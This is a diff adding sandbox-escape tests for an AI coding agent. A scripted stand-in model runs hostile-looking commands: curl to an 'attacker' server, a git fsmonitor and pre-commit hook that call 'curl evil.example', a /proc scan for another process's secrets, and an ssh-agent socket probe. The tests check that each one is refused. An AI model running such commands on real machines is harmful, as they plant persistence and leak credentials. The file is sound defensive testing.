@@ -5,12 +5,13 @@
 // command outside the sandbox.
 import { Database } from "bun:sqlite";
 import { describe, expect, test } from "bun:test";
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { doctor, runOmp, sha256File } from "../support/omp.ts";
 import { tempDir } from "../support/temp.ts";
 import { agentTestFile, filesContaining, modelRequests, providerCases, runAgent, sessionFiles, toolResultsOf, workspace } from "../support/agent-harness.ts";
 import { RpcProcess } from "../support/agent-rpc.ts";
+import { AcpClient } from "../support/acp-client.ts";
 
 const standin = await agentTestFile();
 const provider = providerCases()[0]!;
@@ -41,10 +42,10 @@ function attacker() {
   return { port: server.port, received, stop: () => server.stop(true) };
 }
 
-/** Runs `commands` as the model's bash calls (one turn each) and returns their results in order. */
-async function runCommands(commands: string[], options: { home: string; repo: string; args?: string[]; env?: Record<string, string> }) {
+/** Runs `commands` as the model's bash calls (one turn each; a string is `{command}`) and returns their results in order. */
+async function runCommands(commands: (string | { command: string; background?: boolean })[], options: { home: string; repo: string; args?: string[]; env?: Record<string, string> }) {
   standin.requests.length = 0;
-  standin.setScript([...commands.map((command, i) => ({ toolCalls: [{ id: `c${i}`, name: "bash", arguments: { command } }] })), { text: "done" }]);
+  standin.setScript([...commands.map((command, i) => ({ toolCalls: [{ id: `c${i}`, name: "bash", arguments: typeof command === "string" ? { command } : command }] })), { text: "done" }]);
   const result = await runAgent(["-p", ...(options.args ?? []), "--model", provider.model, "go"], {
     home: options.home,
     cwd: options.repo,
@@ -185,6 +186,67 @@ describe("escalation and approvals over rpc", () => {
   });
 });
 
+describe("a network refusal over rpc", () => {
+  test("curl to the machine's loopback is refused with the reason; 'always' is for that host", async () => {
+    const { home, repo } = victim();
+    const evil = attacker();
+    const curl = `curl -sS -m 5 http://127.0.0.1:${evil.port}/`;
+    standin.setScript([
+      { toolCalls: [{ id: "c1", name: "bash", arguments: { command: curl } }] },
+      { toolCalls: [{ id: "c2", name: "bash", arguments: { command: `${curl}again` } }] },
+      { text: "done" },
+    ]);
+    standin.requests.length = 0;
+    const rpc = new RpcProcess(["--model", provider.model], { home, cwd: repo, env: { ...provider.env(standin.url), TMPDIR: tempDir("omp-sandbox-tmp-") } });
+    try {
+      await rpc.waitFrame((f) => f.type === "ready");
+      const mark = rpc.mark;
+      await rpc.send({ type: "prompt", message: "go" });
+      const request = await rpc.waitFrame((f) => f.type === "extension_ui_request", mark);
+      expect(request).toMatchObject({ kind: "sandbox", options: ["Allow", "Always allow commands reaching 127.0.0.1 outside the sandbox", "Deny"] });
+      expect(request.message).toContain("Failed to connect to 127.0.0.1");
+      expect(request.message).toContain("the machine's own localhost servers");
+      rpc.writeLine(JSON.stringify({ type: "extension_ui_response", id: request.id, value: "Always allow commands reaching 127.0.0.1 outside the sandbox" }));
+      await rpc.waitFrame((f) => f.type === "agent_end", mark);
+      expect(rpc.frames.filter((f) => f.type === "extension_ui_request")).toHaveLength(1);
+      expect(await rpc.close()).toBe(0);
+    } finally {
+      rpc.child.kill();
+      evil.stop();
+    }
+    expect(evil.received).toEqual(["GET ", "GET "]);
+  });
+});
+
+describe("a sandbox refusal over ACP", () => {
+  test("the editor is asked with the reason; allow_always for the host runs it outside, and the next one too without asking", async () => {
+    const { home, repo } = victim();
+    const evil = attacker();
+    const curl = `curl -sS -m 5 http://127.0.0.1:${evil.port}/`;
+    standin.setScript([
+      { toolCalls: [{ id: "c1", name: "bash", arguments: { command: curl } }] },
+      { toolCalls: [{ id: "c2", name: "bash", arguments: { command: `${curl}again` } }] },
+      { text: "done" },
+    ]);
+    const c = new AcpClient({ home, cwd: repo, env: { ...provider.env(standin.url), TMPDIR: tempDir("omp-sandbox-tmp-") }, args: ["acp", "--model", provider.model] });
+    try {
+      // No editor terminal: omp runs the command itself, sandboxed.
+      await c.initialize(false);
+      const { sessionId } = await c.newSession(repo);
+      c.answers = ["allow_always"];
+      expect((await c.prompt(sessionId, "go")).stopReason).toBe("end_turn");
+      const asked = c.permissions.filter((p) => p.toolCall.title?.startsWith("Run outside the sandbox?"));
+      expect(asked).toHaveLength(1);
+      expect(asked[0]!.toolCall.title).toContain("Failed to connect to 127.0.0.1");
+      expect(asked[0]!.toolCall.title).toContain("not the machine's own localhost servers");
+    } finally {
+      await c.close();
+      evil.stop();
+    }
+    expect(evil.received).toEqual(["GET ", "GET "]);
+  });
+});
+
 describe("the embedded launcher", () => {
   test("is extracted into the natives cache with the addon's checks; a damaged copy is replaced; omp doctor says how commands are confined", async () => {
     const home = tempDir("omp-sandbox-doctor-");
@@ -264,5 +326,130 @@ describe("--sandbox read-only", () => {
     expect(results[0]!.text).toContain("# demo");
     expect(results[1]!.text).toContain("[omp sandbox] This command ran sandboxed (read-only: no writes at all");
     expect(existsSync(join(repo, "new-file.txt"))).toBe(false);
+  });
+});
+
+describe("what the sandbox can see and reach beyond files (issue 36.5, 39.5)", () => {
+  test("only its own processes: no other process's cmdline or environ, in its own /proc", async () => {
+    const { home, repo } = victim();
+    const mark = `parent-secret-${crypto.randomUUID()}`;
+    // A process of the user's with a key on its command line and in its environment, as a shell or IDE above omp has.
+    const other = Bun.spawn(["bash", "-c", `exec -a "sleep --api-key=${mark}" sleep 600`], { env: { ...process.env, PARENT_ONLY: mark } });
+    try {
+      const { results } = await runCommands(["ps -eo pid,args", "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c parent-secre[t]; tr '\\0' '\\n' < /proc/$PPID/environ | grep -c parent-secre[t]"], { home, repo });
+      const [ps, scan] = results.map((r) => r.text);
+      expect(ps).toContain("ps -eo pid,args");
+      expect(ps).not.toContain(mark);
+      // The command's tree only: the namespace's init, bash and ps (no omp, no test runner).
+      expect(ps!.trim().split("\n").length).toBeLessThanOrEqual(5);
+      expect(scan).not.toContain(mark);
+      expect(scan).toMatch(/^0\n0/);
+    } finally {
+      other.kill();
+    }
+  });
+
+  test("a Unix socket outside the project, in a temp dir too, is unreachable unless sandbox.allowSockets names it", async () => {
+    const { home, repo } = victim();
+    // Outside every writable dir (the test's home and temp dirs are under /tmp, which is one).
+    const dir = `/run/omp-test-${crypto.randomUUID()}`;
+    mkdirSync(dir);
+    const socket = join(dir, "agent.sock");
+    const connections: string[] = [];
+    const server = Bun.listen({ unix: socket, socket: { open: () => void connections.push("connected"), data() {} } });
+    const connect = `python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("${socket}"); print("connected")'`;
+    // One in a temp dir, where ssh-agent and tmux keep theirs: writable, and hidden all the same.
+    const inTemp = join(tempDir("omp-sandbox-sock-"), "tmux.sock");
+    const tempServer = Bun.listen({ unix: inTemp, socket: { open: () => void connections.push("temp"), data() {} } });
+    try {
+      const denied = await runCommands([connect, "ssh-add -l", connect.replace(socket, inTemp)], { home, repo, env: { SSH_AUTH_SOCK: socket } });
+      expect(denied.results[0]!.text).toContain("Connection refused");
+      expect(denied.results[0]!.text).toContain("[omp sandbox]");
+      expect(denied.results[1]!.text).not.toContain("The agent has no identities");
+      expect(denied.results[2]!.text).toContain("Connection refused");
+      expect(connections).toEqual([]);
+      writeFileSync(join(home, ".omp", "agent", "config.yml"), `sandbox:\n  allowSockets: [${socket}]\n`);
+      const allowed = await runCommands([connect], { home, repo });
+      expect(allowed.results[0]!.text).toBe("connected");
+      expect(connections).toEqual(["connected"]);
+    } finally {
+      server.stop(true);
+      tempServer.stop(true);
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  test("protected workspace paths are read-only to commands while git commit and npm test work", async () => {
+    const { home, repo } = victim();
+    mkdirSync(join(repo, ".claude"));
+    writeFileSync(join(repo, ".claude", "settings.json"), "{}\n");
+    writeFileSync(join(repo, "package.json"), JSON.stringify({ name: "demo", version: "1.0.0", scripts: { test: "node -e \"console.log('tests ok')\"" } }));
+    const config = readFileSync(join(repo, ".git", "config"), "utf8");
+    const { results } = await runCommands(
+      [
+        "git config core.fsmonitor 'curl evil.example'",
+        "echo 'curl evil.example' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+        `echo '{"hooks":{}}' > .claude/settings.json`,
+        "mv .git .git-aside && mkdir .git && echo replaced",
+        "echo change >> README.md && git -c user.name=T -c user.email=t@example.com commit -qam wip && git log --oneline | head -1",
+        "npm test",
+      ],
+      { home, repo },
+    );
+    const [gitConfig, hook, claude, moveAside, commit, npm] = results.map((r) => r.text);
+    for (const refused of [gitConfig, hook, claude, moveAside]) {
+      // git writes config.lock and renames it over the read-only bind: EBUSY; the others EROFS.
+      expect(refused).toMatch(/Read-only file system|Device or resource busy/);
+      expect(refused).toContain("[omp sandbox]");
+    }
+    expect(readFileSync(join(repo, ".git", "config"), "utf8")).toBe(config);
+    expect(existsSync(join(repo, ".git", "hooks", "pre-commit"))).toBe(false);
+    expect(readFileSync(join(repo, ".claude", "settings.json"), "utf8")).toBe("{}\n");
+    expect(existsSync(join(repo, ".git-aside"))).toBe(false);
+    expect(commit).toContain("wip");
+    expect(npm).toContain("tests ok");
+  });
+
+  test("a server one command starts in the background answers the next command; the machine's loopback stays unreachable", async () => {
+    const { home, repo } = victim();
+    const evil = attacker();
+    const port = 20000 + Math.floor(Math.random() * 20000);
+    try {
+      const { results } = await runCommands(
+        [
+          { command: `python3 -m http.server ${port} --bind 127.0.0.1`, background: true },
+          `curl -s -m 5 --retry 30 --retry-delay 1 --retry-connrefused -o /dev/null -w '%{http_code}' http://localhost:${port}/README.md`,
+          `curl -sS -m 5 http://127.0.0.1:${evil.port}/leak`,
+          // Left running by a foreground command: ended with it, as unsandboxed, and the model is told.
+          `python3 -m http.server ${port + 1} --bind 127.0.0.1 >/dev/null 2>&1 & sleep 1; echo started`,
+        ],
+        { home, repo },
+      );
+      expect(results[1]!.text).toBe("200");
+      expect(results[3]!.text).toContain("they were ended with it. To keep a server or watcher running, use background: true.");
+      expect(results[2]!.text).toContain("[omp sandbox]");
+      expect(results[2]!.text).toContain("private loopback");
+      expect(evil.received).toEqual([]);
+    } finally {
+      evil.stop();
+    }
+  });
+
+  test("with sandbox.network: off a server cannot listen, and the refusal says so and how to allow it", async () => {
+    const { home, repo } = victim();
+    writeFileSync(join(home, ".omp", "agent", "config.yml"), "sandbox:\n  network: \"off\"\n");
+    const { results } = await runCommands(["python3 -m http.server 0 --bind 127.0.0.1"], { home, repo });
+    expect(results[0]!.text).toContain("PermissionError");
+    // Python's socket() is refused before any bind: told as the network being off, not as a file.
+    expect(results[0]!.text).toContain("looks like the sandbox refusing it: the network is off; sandbox.network (loopback, allow or a host list) opens it.");
+  });
+
+  test("a lookup that cannot resolve without the network fails at once, saying so", async () => {
+    const { home, repo } = victim();
+    const started = Date.now();
+    const { results } = await runCommands(["npm view left-pad version"], { home, repo });
+    expect(Date.now() - started).toBeLessThan(30_000);
+    expect(results[0]!.text).toContain("EAI_AGAIN");
+    expect(results[0]!.text).toContain("the network (registry.npmjs.org) is unreachable: commands share the session's private loopback");
   });
 });
